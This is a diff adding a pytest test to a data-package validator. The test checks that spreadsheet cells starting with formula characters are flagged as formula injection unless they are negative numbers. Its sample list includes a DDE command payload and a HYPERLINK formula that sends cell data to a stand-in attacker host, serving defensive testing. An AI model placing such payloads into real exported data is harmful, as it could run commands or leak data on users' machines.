@@ -133,6 +133,24 @@ def test_every_cell_the_integer_pattern_accepts_is_typed_as_its_number(cell):
     assert "type-error" not in {p.type for p in report.problems}
 
 
+FORMULAS = ["-2+3+cmd|' /C calc'!A0", '-0+HYPERLINK("http://evil.example/?"&A1,"x")', "-", "- a dash", "-1e3",
+            "=1", "+x", "@SUM(A1)", "\tx", "\rx"]
+NOT_FORMULAS = ["-3", "-0.5", "plain", "a-b", "3-2", " -1"]
+
+
+def test_a_cell_starting_with_a_minus_is_a_formula_unless_it_is_a_negative_number():
+    # The classic DDE payload starts with "-" and a digit: only a cell that is a negative number
+    # (which a spreadsheet reads as that number) may start with "-".
+    cells = FORMULAS + NOT_FORMULAS
+    table = pa.table({"notes": pa.array(cells, pa.string())})
+    raw = structure.RawTable("data/actors.csv", models.Actor, table, None, ["notes"])
+    spec = next(s for s in columns.field_specs(models.Actor) if s.name == "notes")
+    report = Report("pkg")
+    columns.check_field(report, raw, spec)
+    flagged = sorted(p.row for p in report.problems if p.type == "formula-injection")
+    assert flagged == list(range(2, 2 + len(FORMULAS)))
+
+
 @pytest.mark.parametrize("cell", ["+1", "+01"])
 def test_a_signed_rank_is_a_formula_fault_and_the_package_is_still_judged(small_package, cell):
     path = small_package / "data" / "motives.csv"
